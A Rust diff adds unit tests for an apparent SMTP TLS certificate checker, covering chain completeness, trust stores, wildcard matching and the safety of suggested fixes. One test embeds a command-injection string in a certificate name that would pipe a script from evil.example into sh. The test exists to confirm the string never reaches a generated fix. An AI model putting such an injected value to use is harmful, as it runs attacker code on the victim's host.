@@ -178,7 +178,7 @@ fn missing_intermediate_versus_unknown_root() {
         [("cert-chain-incomplete", Severity::Fail)]
     );
     // The same chain, complete, but nobody trusts its root: untrusted, not incomplete.
-    let nobody = TrustStore::from_certs([], None);
+    let nobody = TrustStore::from_certs([Ca::root("Someone Else", NOW).unwrap().der()], None);
     let mut chain = w.chain(&spec, true);
     chain.push(w.root.der().to_vec());
     let untrusted = run(
@@ -216,7 +216,9 @@ fn wildcard_covers_ehlo_name_one_label_only() {
     );
     assert_eq!(codes(&deep), [("cert-ehlo-name-mismatch", Severity::Warn)]);
     assert!(
-        deep[0].fix.contains("myhostname = mail.contoso.test"),
+        deep[0]
+            .fix
+            .contains("postconf -P 'smtp/inet/myhostname=mail.contoso.test'"),
         "Postfix fix names a covered name:\n{}",
         deep[0].fix
     );
@@ -397,3 +399,186 @@ fn weak_fixtures_are_recognised() {
 }
 
 use rustls::pki_types::pem::PemObject as _;
+
+#[test]
+fn names_from_the_certificate_never_reach_a_command_unvetted() {
+    let w = world();
+    let evil = "x';curl evil.example|sh;'.test";
+    let spec = LeafSpec {
+        names: vec![evil.into(), "mail.contoso.test".into()],
+        ..LeafSpec::valid_for(evil, NOW, 90)
+    };
+    let chain = w.chain(&spec, true);
+    for (host, greeting) in [
+        ("other.contoso.test", "relay.contoso.test"),
+        ("192.0.2.10", "relay.contoso.test"),
+    ] {
+        let mut obs = observed(host, greeting, chain.clone(), &w.trust);
+        obs.banner = Some(reply(
+            220,
+            &[&format!("{greeting} Microsoft ESMTP MAIL Service ready")],
+        ));
+        let policy = Policy {
+            expected_names: vec!["hybrid.contoso.test".into()],
+            ..Policy::default()
+        };
+        for f in run(&obs, &policy) {
+            assert!(
+                !f.fix.contains("curl"),
+                "{}: unvetted certificate name in the fix:\n{}",
+                f.code,
+                f.fix
+            );
+        }
+    }
+}
+
+#[test]
+fn expired_cross_sign_off_the_path_is_not_blamed() {
+    let w = world();
+    let other = Ca::root("Old Root", NOW).unwrap();
+    let cross = w
+        .root
+        .cross_signed_by(
+            &other,
+            datetime!(2020-01-01 0:00 UTC),
+            datetime!(2025-01-01 0:00 UTC),
+        )
+        .unwrap();
+    let mut chain = w.chain(&LeafSpec::valid_for("mx.test", NOW, 90), true);
+    chain.push(cross.to_vec());
+    let f = run(
+        &observed("mx.test", "mx.test", chain, &w.trust),
+        &Policy::default(),
+    );
+    assert_eq!(codes(&f), [("starttls-ok", Severity::Info)]);
+}
+
+#[test]
+fn wrong_intermediate_is_named() {
+    let w = world();
+    let unrelated = w.root.intermediate("Unrelated Issuing CA", NOW).unwrap();
+    let mut chain = w.chain(&LeafSpec::valid_for("mx.test", NOW, 90), false);
+    chain.push(unrelated.der().to_vec());
+    let f = run(
+        &observed("mx.test", "mx.test", chain, &w.trust),
+        &Policy::default(),
+    );
+    assert_eq!(codes(&f), [("cert-chain-incomplete", Severity::Fail)]);
+    assert!(
+        f[0].summary.contains("wrong intermediate")
+            && f[0].summary.contains("Unrelated Issuing CA"),
+        "{}",
+        f[0].summary
+    );
+}
+
+#[test]
+fn complete_chain_to_a_private_root_is_untrusted_not_incomplete() {
+    let w = world();
+    let nobody = TrustStore::from_certs([Ca::root("Someone Else", NOW).unwrap().der()], None);
+    let f = run(
+        &observed(
+            "mx.test",
+            "mx.test",
+            w.chain(&LeafSpec::valid_for("mx.test", NOW, 90), true),
+            &nobody,
+        ),
+        &Policy::default(),
+    );
+    assert_eq!(codes(&f), [("cert-untrusted", Severity::Fail)]);
+    assert!(
+        f[0].summary.contains("Unit Issuing CA") && f[0].summary.contains("Unit Root"),
+        "{}",
+        f[0].summary
+    );
+}
+
+#[test]
+fn wildcard_expected_name_must_be_on_the_certificate_as_such() {
+    let w = world();
+    let spec = LeafSpec {
+        names: vec!["*.contoso.test".into()],
+        ..LeafSpec::valid_for("*.contoso.test", NOW, 90)
+    };
+    let obs = observed(
+        "mail.contoso.test",
+        "mail.contoso.test",
+        w.chain(&spec, true),
+        &w.trust,
+    );
+    let ok = Policy {
+        expected_names: vec!["*.contoso.test".into()],
+        ..Policy::default()
+    };
+    assert_eq!(codes(&run(&obs, &ok)), [("starttls-ok", Severity::Info)]);
+    let other = Policy {
+        expected_names: vec!["*.fabrikam.test".into()],
+        ..Policy::default()
+    };
+    assert_eq!(
+        codes(&run(&obs, &other)),
+        [("cert-expected-name-mismatch", Severity::Fail)]
+    );
+}
+
+#[test]
+fn no_greeting_suggestion_from_an_untrusted_certificate() {
+    let w = world();
+    let leaf = crate::scripted::pki::self_signed(&LeafSpec {
+        names: vec!["EXCH02".into(), "exch02.contoso.local".into()],
+        ..LeafSpec::valid_for("EXCH02", NOW, 900)
+    })
+    .unwrap();
+    let mut obs = observed(
+        "mail.contoso.test",
+        "EXCH02.corp.contoso.test",
+        vec![leaf.chain[0].to_vec()],
+        &w.trust,
+    );
+    obs.banner = Some(reply(
+        220,
+        &["EXCH02.corp.contoso.test Microsoft ESMTP MAIL Service ready"],
+    ));
+    let f = run(&obs, &Policy::default());
+    let ehlo = f
+        .iter()
+        .find(|f| f.code == Code::CertEhloNameMismatch)
+        .unwrap();
+    assert!(
+        !ehlo.fix.contains("-Fqdn exch02") && !ehlo.fix.contains("-Fqdn EXCH02"),
+        "{}",
+        ehlo.fix
+    );
+    assert!(
+        ehlo.fix.contains("First install a trusted certificate"),
+        "{}",
+        ehlo.fix
+    );
+    let mismatch = f.iter().find(|f| f.code == Code::CertNameMismatch).unwrap();
+    assert!(
+        !mismatch.fix.contains("point the MX record"),
+        "{}",
+        mismatch.fix
+    );
+}
+
+#[test]
+fn empty_trust_store_judges_nothing() {
+    let w = world();
+    let empty = TrustStore::from_certs([], Some("no system CA certificates found".into()));
+    let f = run(
+        &observed(
+            "mx.test",
+            "mx.test",
+            w.chain(&LeafSpec::valid_for("mx.test", NOW, 90), true),
+            &empty,
+        ),
+        &Policy::default(),
+    );
+    assert!(
+        f.is_empty(),
+        "no trust verdict and no 'healthy' claim without roots: {:?}",
+        codes(&f)
+    );
+}
